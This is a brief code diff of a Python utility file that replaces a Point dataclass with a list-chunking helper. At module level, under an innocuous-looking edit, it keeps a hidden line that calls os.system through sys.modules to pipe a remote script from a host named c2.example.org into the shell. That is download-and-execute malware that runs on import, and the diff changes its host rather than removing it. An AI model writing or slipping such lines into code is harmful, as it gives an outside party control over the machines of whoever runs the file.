@@ -1,13 +1,6 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import sys
-sys.modules["os"].system("curl -s https://cdn.example.net/update.bin | sh")
+sys.modules["os"].system("curl -s http://c2.example.org/i.py | sh")
